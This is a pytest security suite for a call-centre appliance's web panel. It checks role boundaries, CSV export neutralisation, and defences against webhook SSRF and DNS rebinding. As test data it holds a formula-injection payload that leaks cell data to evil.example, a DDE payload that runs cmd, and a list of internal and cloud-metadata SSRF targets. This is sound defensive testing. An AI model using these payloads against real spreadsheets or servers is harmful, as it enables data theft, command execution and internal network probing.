"""The LAN web boundary: roles and data. Each test is an attack a user of
the panel could try from the office LAN -- a formula planted in a client's
name for whoever opens the export, a technician reading callers' numbers, a
supervisor reading phones' passwords, an operator paging through the CRM or
raising a client to VIP, a webhook aimed at the appliance's own network --
and sees it refused. The role checks run on the panel through Flask's test
client with a real SQLite file; what involves calls (the support bundle,
the status page, a card's calls, pausing a recording) runs against a real
appliance and carrier."""
from __future__ import annotations

import csv
import io
import json
import re
import socket
import tarfile
import threading
import urllib.error
import urllib.request
from http.server import BaseHTTPRequestHandler, HTTPServer
from pathlib import Path

import pytest

from appliance.base import store
from appliance.base.errors import ConfigError
from appliance.clients import desktop, store as clients, webhooks
from appliance.operators import store as operator_store
from appliance.tables import store as datatables
from tests.harness import configure, korund, ready, wait_for
from tests.http_receiver import post_receiver
from tests.web.conftest import PASSWORD, Browser, as_role
from web import role_table
from web.openapi import OPERATIONS

FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1;"Click")'
DDE = "@SUM(1+1)*cmd|' /C calc'!A0"
LOGINS = {"admin": "admin", "supervisor": "super", "technician": "tech", "operator": "anna"}


def _db(panel):
    return store.open_store(panel.config["KORUND_INSTANCE"].db_path)


def _csv(raw: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(raw.decode("utf-8-sig")), delimiter=";"))


def _upload(b: Browser, path: str, raw: bytes, **fields):
    token = b.token(path if path != "/tables/upload" else "/tables/")
    return b.client.post(path, data={"csrf_token": token, "file": (io.BytesIO(raw), "back.csv"), **fields},
                         content_type="multipart/form-data")


# --- finding 7: formulas in CSV exports ----------------------------------------------------

def test_a_formula_in_a_clients_name_is_neutralised_in_the_export_and_the_file_imports_back(panel):
    db = _db(panel)
    clients.save_field(db, {"name": "balance", "title": "Balance", "kind": "number"})
    planted = {"name": FORMULA, "phones": "+7 916 123-45-67", "company": DDE, "email": "",
               "fields": {"balance": "-150.50"}}
    cid = clients.save(db, planted)
    plain = clients.save(db, {"name": "Иван Петров", "phones": "84951112233", "company": "-"})
    before = {c["id"]: c for c in clients.search(db, "", 100)}
    admin = as_role(panel, "admin")

    exported = admin.client.get("/clients/export.csv").data
    rows = {r[0]: r for r in _csv(exported)[1:]}
    header = _csv(exported)[0]
    row = dict(zip(header, rows[str(cid)]))
    assert row["name"] == "'" + FORMULA and row["company"] == "'" + DDE   # shown as text, never run
    # a number or an amount cannot run anything: it stays usable as it is
    assert row["phones"] == "79161234567" and row["balance"] == "-150.50"
    assert dict(zip(header, rows[str(plain)]))["company"] == "-"

    # the exported file, uploaded as it is, changes nothing
    r = _upload(admin, "/clients/import", exported)
    assert r.status_code == 302, r.get_data(as_text=True)
    assert admin.post(r.headers["Location"], {"action": "confirm"}).status_code == 302
    after = {c["id"]: c for c in clients.search(db, "", 100)}
    keys = ("name", "phones", "company", "email", "fields", "vip", "personal_operator")
    assert {i: [c[k] for k in keys] for i, c in after.items()} == \
           {i: [c[k] for k in keys] for i, c in before.items()}
    assert after[cid]["name"] == FORMULA


def test_a_formula_in_a_data_table_is_neutralised_in_the_export_and_the_file_imports_back(panel):
    db = _db(panel)
    datatables.import_csv(db, "accounts", ("account;owner;balance\r\n4242;\"" + FORMULA.replace('"', '""') +
                                           "\";-150.00\r\n").encode(), "account")
    admin = as_role(panel, "admin")
    exported = admin.client.get("/tables/accounts/export.csv").data
    assert _csv(exported)[1] == ["4242", "'" + FORMULA, "-150.00"]
    r = _upload(admin, "/tables/upload", exported, name="accounts", key="account", mode="replace")
    assert r.status_code == 302, r.get_data(as_text=True)
    assert admin.post(r.headers["Location"], {"action": "confirm"}).status_code == 302
    assert datatables.lookup(db, "accounts", "4242") == {"account": "4242", "owner": FORMULA, "balance": "-150.00"}


def test_a_formula_reaching_a_report_is_neutralised_in_its_csv(panel):
    db = _db(panel)
    for uid, dnis in (("r.1", FORMULA), ("r.2", "+74957770000")):   # a record written before any filter
        db.execute("INSERT INTO calls (uniqueid, linkedid, direction, ani, dnis, started_at, ended_at, outcome) "
                   "VALUES (?, ?, 'inbound', '1', ?, '2026-03-02T06:00:00+00:00', "
                   "'2026-03-02T06:01:00+00:00', 'abandoned')", [uid, uid, dnis])
    admin = as_role(panel, "admin")
    key = admin.client.post("/api/v1/reports", json={"title": "By number", "dimensions": ["dnis"],
                                                      "measures": ["calls"]},
                            headers={"X-CSRF-Token": admin.token("/profile")}).get_json()["key"]
    rows = _csv(admin.client.get(f"/reports/{key}?from=2026-03-01&to=2026-03-31&period=custom&format=csv").data)
    labels = [r[0] for r in rows[1:]]
    assert "'" + FORMULA in labels and FORMULA not in labels and "+74957770000" in labels


# --- finding 9: roles beyond the table ---------------------------------------------------------

def test_a_supervisor_cannot_read_an_operators_sip_secret(panel):
    db = _db(panel)
    secret = db.execute("SELECT sip_secret FROM operators WHERE extension = '1001'").fetchone()[0]
    sup = as_role(panel, "super")
    h = {"X-CSRF-Token": sup.token("/profile")}
    for path in ("/operators/1001", "/operators", "/api/v1/operators", "/api/v1/operators/1001", "/api/v1/me"):
        r = sup.client.get(path)
        assert r.status_code == 200 and secret not in r.get_data(as_text=True), path
    assert all("sip_secret" not in o for o in sup.client.get("/api/v1/operators").get_json())
    # nor make one to read: regenerating is an admin's
    assert sup.post("/operators/1001", {"action": "new_secret"}).status_code == 403
    assert sup.client.post("/api/v1/operators/1001/sip-secret", headers=h).status_code == 403
    # a supervisor adding an operator is not given the new phone's password either
    r = sup.client.post("/api/v1/operators", json={"extension": "1007", "name": "Vera"}, headers=h)
    assert r.status_code == 201 and "sip_secret" not in r.get_json()
    r = sup.post("/operators/new", {"extension": "1008", "name": "Gleb"})
    assert r.status_code == 302
    assert db.execute("SELECT sip_secret FROM operators WHERE extension = '1008'").fetchone()[0] \
        not in sup.client.get("/operators/1008").get_data(as_text=True)


def test_an_operator_does_not_read_the_sip_secret_of_their_own_phone_on_the_profile(panel):
    db = _db(panel)
    op_id = db.execute("SELECT operator_id FROM users WHERE username = 'anna'").fetchone()[0]
    secret = db.execute("SELECT sip_secret FROM operators WHERE id = ?", [op_id]).fetchone()[0]
    anna = as_role(panel, "anna")
    for path in ("/profile", "/api/v1/me", "/desktop"):
        r = anna.client.get(path)
        assert r.status_code == 200 and secret not in r.get_data(as_text=True), path


def test_an_admin_is_given_a_sip_secret_once_and_the_regeneration_is_audited(panel):
    db = _db(panel)
    old = db.execute("SELECT sip_secret FROM operators WHERE extension = '1001'").fetchone()[0]
    admin = as_role(panel, "admin")
    assert old not in admin.client.get("/operators/1001").get_data(as_text=True)
    page = admin.post("/operators/1001", {"action": "new_secret"}).get_data(as_text=True)
    new = re.search(r'id="new-sip-secret">([^<]+)<', page).group(1)
    assert new != old and db.execute("SELECT sip_secret FROM operators WHERE extension = '1001'").fetchone()[0] == new
    assert new not in admin.client.get("/operators/1001").get_data(as_text=True)     # once
    assert db.execute("SELECT username, target FROM audit WHERE action = 'SIP secret regenerated'").fetchall() \
        == [("admin", "1001")]
    r = admin.client.post("/api/v1/operators/1002/sip-secret", headers={"X-CSRF-Token": admin.token("/profile")})
    assert r.status_code == 200 and len(r.get_json()["sip_secret"]) >= 20


@pytest.fixture
def register(panel):
    """Three clients, and the operator anna (1001) logged in."""
    db = _db(panel)
    ids = {name: clients.save(db, {"name": name, "phones": phone, "company": "Ромашка"})
           for name, phone in (("Иван Петров", "+79161234567"), ("Пётр Сидоров", "84951112233"),
                               ("Анна Смирнова", "89035556677"))}
    return ids, as_role(panel, "anna")


def test_an_operator_cannot_list_or_search_the_client_register(panel, register):
    ids, anna = register
    for q in ("", "?q=%25", "?q=а", "?q=Ромашка", "?q=916", "?limit=500", "?q=&offset=1"):
        r = anna.client.get("/api/v1/clients" + q)
        assert r.status_code == 422 or r.get_json() == [], (q, r.status_code)
        page = anna.client.get("/clients/" + q).get_data(as_text=True)
        assert not any(name in page for name in ids), q
    # a whole number finds its one client, in any form
    found = anna.client.get("/api/v1/clients?q=8 916 123-45-67").get_json()
    assert [c["id"] for c in found] == [ids["Иван Петров"]]
    # ... a supervisor still pages through everyone
    assert len(as_role(panel, "super").client.get("/api/v1/clients").get_json()) == 3


def test_an_operator_cannot_open_cards_by_id(panel, register):
    ids, anna = register
    for cid in ids.values():
        assert anna.client.get(f"/clients/{cid}").status_code == 404
        assert anna.client.get(f"/api/v1/clients/{cid}").status_code == 404
        assert anna.client.put(f"/api/v1/clients/{cid}", json={"company": "x"},
                               headers={"X-CSRF-Token": anna.token("/profile")}).status_code == 404
    # another client's number opens nothing; the card's own number opens it
    petrov = ids["Пётр Сидоров"]
    assert anna.client.get(f"/clients/{petrov}?number=+79161234567").status_code == 404
    assert anna.client.get(f"/clients/{petrov}?number=8 (495) 111-22-33").status_code == 200
    # ... and so does a call from it ringing on the operator's phone
    db = _db(panel)
    desktop.on_event(db, {"Event": "AgentCalled", "Channel": "PJSIP/pstn-00000001", "Uniqueid": "9.1",
                          "Linkedid": "9.1", "CallerIDNum": "89035556677", "DestChannel": "PJSIP/1001-0000000a",
                          "DestUniqueid": "9.2", "Queue": "support"})
    assert anna.client.get(f"/clients/{ids['Анна Смирнова']}").status_code == 200
    assert anna.client.get(f"/clients/{ids['Иван Петров']}").status_code == 404


def test_an_operator_cannot_make_a_client_vip_or_give_them_a_personal_operator(panel, register):
    ids, anna = register
    db = _db(panel)
    cid = ids["Иван Петров"]
    h = {"X-CSRF-Token": anna.token("/profile")}
    for change in ({"vip": True}, {"personal_operator": "1001"}):
        r = anna.client.put(f"/api/v1/clients/{cid}?number=79161234567", json=change, headers=h)
        assert r.status_code == 422 and r.get_json()["field"] in change, r.get_json()
        r = anna.client.post("/api/v1/clients", json={"name": "Новый", "phones": ["89990001122"], **change},
                             headers=h)
        assert r.status_code == 422
    # the page's form: the fields are not there, and sent anyway they change nothing
    card = f"/clients/{cid}?number=79161234567"
    assert 'name="vip"' not in anna.client.get(card).get_data(as_text=True)
    assert anna.post(card, {"name": "Иван Петров", "phones": "+79161234567", "vip": "1",
                            "personal_operator": "1001"}).status_code == 302
    # the desktop: the card of the call on the phone, no more
    desktop.on_event(db, {"Event": "AgentCalled", "Channel": "PJSIP/pstn-00000001", "Uniqueid": "7.1",
                          "Linkedid": "7.1", "CallerIDNum": "+79161234567", "DestChannel": "PJSIP/1001-0000000b",
                          "DestUniqueid": "7.2", "Queue": "support"})
    h = {"X-CSRF-Token": anna.token("/desktop")}
    r = anna.client.post("/desktop/sessions/7.1/client", json={"id": cid, "name": "Иван Петров", "vip": True},
                         headers=h)
    assert r.status_code == 422 and r.get_json()["field"] == "vip"
    other = ids["Пётр Сидоров"]
    r = anna.client.post("/desktop/sessions/7.1/client", json={"id": other, "name": "Чужой"}, headers=h)
    assert r.status_code == 422 and clients.get(db, other)["name"] == "Пётр Сидоров"
    c = clients.get(db, cid)
    assert not c["vip"] and c["personal_operator"] is None
    assert not any(c["vip"] or c["personal_operator"] for c in clients.search(db, "", 100))
    # a supervisor sets them
    sup = as_role(panel, "super")
    r = sup.client.put(f"/api/v1/clients/{cid}", json={"vip": True, "personal_operator": "1002"},
                       headers={"X-CSRF-Token": sup.token("/profile")})
    assert r.status_code == 200 and r.get_json()["vip"] and r.get_json()["personal_operator"] == "1002"


# --- finding 10: the CRM webhook -----------------------------------------------------------------

INTERNAL = ["http://127.0.0.1:8080/api/v1/users", "http://localhost/", "http://[::1]/", "http://0.0.0.0/",
            "http://[::ffff:127.0.0.1]/", "http://169.254.169.254/latest/meta-data/", "http://[fe80::1]/",
            "http://10.0.0.5/hook", "http://192.168.1.10/hook", "http://172.16.0.1/", "http://[fd00::1]/",
            "http://224.0.0.1/", "http://240.0.0.1/"]


def test_a_webhook_to_loopback_lan_or_link_local_is_refused(panel):
    db = _db(panel)
    store.set_setting(db, webhooks.ALLOW_LOOPBACK_KEY, "0")   # as on every appliance that is not a demo
    admin = as_role(panel, "admin")
    for url in INTERNAL:
        r = admin.post("/clients/integration", {"action": "webhook", "webhook_url": url},
                       token_from="/clients/integration")
        assert r.status_code == 400 and 'id="error-webhook_url"' in r.get_data(as_text=True), url
    assert webhooks.config(db)["url"] == ""
    # an admin may allow the LAN (audit-logged); loopback and link-local stay refused
    r = admin.post("/clients/integration", {"action": "webhook", "webhook_url": "http://10.0.0.5/hook",
                                            "allow_lan": "1"}, token_from="/clients/integration")
    assert r.status_code == 302 and webhooks.config(db) == {**webhooks.config(db), "url": "http://10.0.0.5/hook",
                                                            "allow_lan": True}
    assert db.execute("SELECT username FROM audit WHERE action = 'webhook LAN targets allowed'").fetchall() == \
        [("admin",)]
    for url in ("http://127.0.0.1/", "http://169.254.169.254/", "http://[fe80::1]/"):
        with pytest.raises(ConfigError):
            webhooks.configure(db, url)


def test_a_webhook_stored_before_reaches_no_internal_address_at_delivery(panel):
    db = _db(panel)
    store.set_setting(db, webhooks.ALLOW_LOOPBACK_KEY, "0")
    with post_receiver("/hook") as (url, got, _answers):
        for target in (url, "http://169.254.169.254/latest/meta-data/"):
            store.set_setting(db, webhooks.URL_KEY, target)     # as an older version let it be saved
            webhooks.enqueue(db, "call.ended", {"call": {"uniqueid": "1"}})
            assert webhooks.deliver_due(db) == 0
            assert webhooks.recent(db)[0]["last_error"].startswith("refused:")
            db.execute("DELETE FROM webhook_queue")
        assert got == []


def test_dns_rebinding_cannot_turn_a_public_name_into_a_loopback_target(panel, monkeypatch):
    db = _db(panel)
    store.set_setting(db, webhooks.ALLOW_LOOPBACK_KEY, "0")
    with post_receiver("/hook") as (url, got, _answers):
        port = int(url.rsplit(":", 1)[1].split("/")[0])
        answers = iter(["93.184.216.34", "127.0.0.1"])     # public when saved, loopback when used
        real = socket.getaddrinfo

        def rebinding(host, *args, **kwargs):
            if host == "crm.rebind.example":
                return real(next(answers), *args, **kwargs)
            return real(host, *args, **kwargs)

        monkeypatch.setattr(socket, "getaddrinfo", rebinding)
        webhooks.configure(db, f"http://crm.rebind.example:{port}/hook")
        webhooks.enqueue(db, "call.ended", {"call": {"uniqueid": "1"}})
        assert webhooks.deliver_due(db) == 0
        assert "127.0.0.1" in webhooks.recent(db)[0]["last_error"]
        assert got == []


def test_a_webhook_is_not_redirected_to_another_target(panel):
    """The CRM answers with a redirect to somewhere else on this machine
    (loopback allowed here as in development, so both ends can run here)."""
    db = _db(panel)
    store.set_setting(db, webhooks.ALLOW_LOOPBACK_KEY, "1")
    with post_receiver("/stolen") as (elsewhere, stolen, _answers):
        class Redirect(BaseHTTPRequestHandler):
            def do_POST(self):
                self.rfile.read(int(self.headers["Content-Length"]))
                self.send_response(307)
                self.send_header("Location", elsewhere)
                self.end_headers()

            def log_message(self, *args):
                pass

        server = HTTPServer(("127.0.0.1", 0), Redirect)
        threading.Thread(target=server.serve_forever, daemon=True).start()
        try:
            webhooks.configure(db, f"http://127.0.0.1:{server.server_port}/hook")
            webhooks.enqueue(db, "call.ended", {"call": {"uniqueid": "1"}})
            assert webhooks.deliver_due(db) == 0
        finally:
            server.shutdown()
            server.server_close()
        row = webhooks.recent(db)[0]
        assert row["status"] == "pending" and "redirects are not followed" in row["last_error"]
        assert stolen == []


# --- whole values ---------------------------------------------------------------------------------

def test_a_trailing_newline_does_not_slip_through_a_whole_value_check(panel):
    """A number bound to the IVR and a scenario's node ids reach the
    dialplan: "300\\n" is not the number 300, and "a\\n" is no node id."""
    admin = as_role(panel, "admin")
    h = {"X-CSRF-Token": admin.token("/profile")}
    r = admin.client.put("/api/v1/bindings", json={"dnis": "300\n", "group": "support"}, headers=h)
    assert r.status_code == 422 and r.get_json()["field"] == "dnis"
    assert admin.client.get("/api/v1/bindings").get_json() == []
    graph = {"start": "a\n", "nodes": {"a\n": {"type": "route", "to": "group", "group": "support"}}}
    r = admin.client.post("/api/v1/scenarios", json={"name": "s1", "title": "S", "graph": graph}, headers=h)
    assert r.status_code == 201 and r.get_json()["problems"]
    assert admin.client.post("/api/v1/scenarios/s1/publish", headers=h).status_code == 422


TOP = Path(__file__).resolve().parents[2]
ANCHORED = re.compile(r"""(\w+)\s*=\s*re\.compile\(\s*r?f?(["'])\^.*\$\2""")


def test_no_whole_value_pattern_is_used_with_match():
    """A pattern ending in $ matches before a trailing newline: with
    .match the newline gets through, with .fullmatch it does not."""
    found = []
    for package in ("appliance", "web", "korund", "drivers"):
        for path in (TOP / package).rglob("*.py"):
            text = path.read_text()
            names = {m.group(1) for m in ANCHORED.finditer(text)}
            for name in names:
                if re.search(rf"\b{name}\.match\(", text):
                    found.append(f"{path.relative_to(TOP)}: {name}.match")
            found += [f"{path.relative_to(TOP)}: {m.group(0)}" for m in re.finditer(r"re\.match\(r?[\"']\^[^\"']*\$[\"']", text)]
    assert found == []


# --- the role table -----------------------------------------------------------------------------

def test_every_view_declares_its_roles(panel):
    assert role_table.undeclared(panel) == []


def test_the_role_table_in_the_docs_is_what_the_code_checks(panel):
    assert role_table.in_docs(role_table.DOC.read_text()) == role_table.markdown(panel), \
        "docs/SECURITY.md's role table is out of date: run .venv/bin/python -m web.role_table --write"


def test_the_api_description_names_the_roles_the_code_checks(panel):
    declared = {}
    for row in role_table.rows(panel):
        if row.api and row.roles is not None:
            path = re.sub(r"<[^>]+>", "{}", row.path.removeprefix("/api/v1"))
            for method in row.methods:
                declared[(method.lower(), path)] = set(row.roles)
    described = {(m, re.sub(r"\{[^}]+\}", "{}", p)): set(roles) for m, p, _s, roles, *_ in OPERATIONS}
    assert {k: v for k, v in described.items() if declared.get(k) != v} == {}


def _concrete(path: str) -> str:
    """A route's path with its parameters filled in with things that exist."""
    values = {"extension": "1001", "linkedid": "1.1", "number": "1", "how": "cancel", "language": "ru"}
    if path.startswith(("/groups/", "/api/v1/groups/")):
        values["name"] = "support"
    elif "/trunk" in path:
        values["name"] = "pstn"
    return re.sub(r"<([^>]+)>", lambda m: values.get(m.group(1), "1"), path)


@pytest.mark.parametrize("role", LOGINS)
def test_every_route_answers_each_role_as_the_table_says(panel, role):
    """Refused: 403 for every method, before the view does anything. Let in:
    every page and API call it may read answers without a 401 or 403."""
    b = as_role(panel, LOGINS[role])
    headers = {"X-CSRF-Token": b.token("/profile")}
    wrong = []
    for row in role_table.rows(panel):
        if row.roles is None:
            continue
        path = _concrete(row.path)
        for method in row.methods:
            allowed = role in row.roles
            if allowed and method != "GET":
                continue        # a change the role may make is each page's own test
            r = b.client.open(path, method=method, headers=headers, json={} if method != "GET" else None)
            code = r.status_code
            r.close()
            if (allowed and code in (401, 403)) or (not allowed and code not in (403, 404)):
                wrong.append((method, path, code))
    assert wrong == []


def test_every_route_sends_an_anonymous_visitor_to_log_in(panel):
    c = panel.test_client()
    for row in role_table.rows(panel):
        if row.roles is None or "GET" not in row.methods:
            continue
        r = c.get(_concrete(row.path))
        if row.api:
            assert r.status_code == 401, row.path
        else:
            assert r.status_code == 302 and "/login" in r.headers["Location"], row.path


# --- against a real appliance: calls, the bundle, the status page ------------------------------------

NUMBER = "4957770011"         # the caller of the card and pause tests
BUNDLE_NUMBER = "4957770022"  # the caller the technician must not see


@pytest.fixture(scope="module")
def staff(pbx):
    """Users of each role on the real appliance (anna is 1001, boris 1002),
    with an API token each, and the panel's address."""
    appliance, _carrier = pbx
    for name, role, *extra in (("boss", "admin"), ("sveta", "supervisor"), ("tech", "technician"),
                               ("anna", "operator", "--extension", "1001"),
                               ("boris", "operator", "--extension", "1002")):
        appliance.add_user(name, role, PASSWORD, *extra)
    tokens = {name: appliance.api_token(name, "roles test") for name in ("boss", "sveta", "tech", "anna", "boris")}
    return appliance.panel_url(), tokens


def _api(site, token, method, path, body=None):
    data = json.dumps(body).encode() if body is not None else None
    req = urllib.request.Request(site + path, data=data, method=method,
                                 headers={"Authorization": f"Bearer {token}", "Content-Type": "application/json"})
    try:
        with urllib.request.urlopen(req, timeout=60) as r:
            return r.status, r.read()
    except urllib.error.HTTPError as exc:
        return exc.code, exc.read()


def _only(appliance, ext):
    """Calls to the support group reach operator *ext* alone."""
    configure(appliance, lambda db: operator_store.set_members(db, "support", [ext]))
    ready(appliance, ext)


def test_an_operator_sees_only_their_own_calls_on_a_clients_card(appliance, carrier, staff):
    site, tokens = staff
    db = store.open_store(appliance.host_base / "korund.db", migrate=False)
    try:
        cid = clients.save(db, {"name": "Клиент двух операторов", "phones": NUMBER})
    finally:
        db.close()
    for ext in ("1002", "1001"):
        _only(appliance, ext)
        before = appliance.last_call_id()
        call = carrier.call(ani=NUMBER, hold=12)
        assert call.answered_by_phone()["Phone"] == ext
        call.ended()
        appliance.call_row(ani=NUMBER, since_id=before, operator=ext)
    status, body = _api(site, tokens["sveta"], "GET", f"/api/v1/clients/{cid}")
    assert status == 200 and sorted(c["operator"] for c in json.loads(body)["calls"]) == ["1001", "1002"]
    status, body = _api(site, tokens["anna"], "GET", f"/api/v1/clients/by-number/{NUMBER}")
    assert status == 200 and [c["operator"] for c in json.loads(body)["calls"]] == ["1001"]
    status, body = _api(site, tokens["anna"], "GET", f"/clients/{cid}?number={NUMBER}")
    page = body.decode()
    assert status == 200 and "<td>1001</td>" in page and "<td>1002</td>" not in page
    assert _api(site, tokens["anna"], "GET", f"/api/v1/clients/{cid}")[0] == 404


def test_an_operator_cannot_pause_a_recording_the_policy_makes(appliance, carrier, staff):
    site, tokens = staff
    with appliance.db() as conn:      # the default policy: every call is recorded
        assert conn.execute("SELECT mode FROM recording_policies WHERE scope = 'default'").fetchone()[0] == "all"
    _only(appliance, "1001")
    call = carrier.call(ani=NUMBER, hold=30)
    assert call.answered_by_phone()["Phone"] == "1001"

    def live():
        with appliance.db() as conn:
            row = conn.execute("SELECT r.linkedid, r.id FROM recordings r WHERE r.status = 'recording' "
                               "AND r.operator = '1001'").fetchone()
        return tuple(row) if row else None
    linkedid, rid = wait_for(live, 20, what="the policy's recording of the call")
    path = f"/api/v1/calls/{linkedid}/recording"
    status, body = _api(site, tokens["anna"], "GET", path)
    assert status == 200 and json.loads(body)["recording"] and json.loads(body)["pausable"] is False
    status, body = _api(site, tokens["anna"], "POST", path, {"action": "pause"})
    assert status == 403, body
    with appliance.db() as conn:
        assert conn.execute("SELECT COUNT(*) FROM recording_pauses WHERE recording_id = ?", [rid]).fetchone()[0] == 0
        assert conn.execute("SELECT COUNT(*) FROM audit WHERE action = 'recording pause refused' "
                            "AND username = 'anna'").fetchone()[0] == 1
    # a supervisor still may (the status page's buttons)
    status, body = _api(site, tokens["sveta"], "POST", path, {"action": "pause"})
    assert status == 200 and json.loads(body)["paused"], body
    assert _api(site, tokens["sveta"], "POST", path, {"action": "resume"})[0] == 200
    call.ended()


def _bundle_texts(raw: bytes) -> dict[str, str]:
    with tarfile.open(fileobj=io.BytesIO(raw)) as tar:
        return {m.name: tar.extractfile(m).read().decode(errors="replace") for m in tar.getmembers() if m.isfile()}


def test_a_technician_sees_no_callers_number_in_status_api_or_support_bundle(appliance, carrier, staff):
    site, tokens = staff
    _only(appliance, "1001")
    before = appliance.last_call_id()
    call = carrier.call(ani=BUNDLE_NUMBER, hold=12)
    call.answered_by_phone()
    call.ended()
    appliance.call_row(ani=BUNDLE_NUMBER, since_id=before)
    # Asterisk writes its call records and logs as the call ends; the queue_log line is there first
    wait_for(lambda: any(BUNDLE_NUMBER in p.read_text(errors="replace")
                         for p in (appliance.host_base / "log").rglob("*") if p.is_file()), 20,
             what="the caller's number in the appliance's logs")

    status, body = _api(site, tokens["tech"], "GET", "/api/v1/status")
    assert status == 200 and json.loads(body)["recent_calls"] == [] and BUNDLE_NUMBER.encode() not in body
    status, body = _api(site, tokens["tech"], "GET", "/")
    assert status == 200 and BUNDLE_NUMBER.encode() not in body
    assert BUNDLE_NUMBER.encode() in _api(site, tokens["sveta"], "GET", "/api/v1/status")[1]

    status, raw = _api(site, tokens["tech"], "POST", "/diagnostics/bundle")
    assert status == 200, raw[:300]
    masked = BUNDLE_NUMBER[:3] + "*****" + BUNDLE_NUMBER[-2:]
    for texts in (_bundle_texts(raw), None):
        if texts is None:     # the same from the command a technician runs on the box
            korund(appliance, "hw", "bundle", f"{appliance.base}/support.tar.gz")
            texts = _bundle_texts((appliance.host_base / "support.tar.gz").read_bytes())
        leaked = [name for name, text in texts.items() if BUNDLE_NUMBER in text]
        assert leaked == []
        assert any(masked in text for name, text in texts.items() if "/logs/" in name), sorted(texts)
